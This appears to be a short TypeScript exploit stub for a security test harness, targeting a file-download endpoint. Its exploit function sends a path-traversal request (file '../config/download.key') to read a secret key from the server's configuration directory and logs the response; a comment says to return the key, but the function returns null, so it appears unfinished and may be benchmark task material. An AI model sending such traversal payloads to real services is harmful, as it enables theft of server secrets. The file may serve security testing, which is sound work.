import type { Target } from 'underpin';

export async function exploit({ request }: Target) {
  const { status, body } = await request('GET', '/downloads', { query: { file: '../config/download.key' } });
  console.log(status, body);
  // Return the key.
  return null;
}
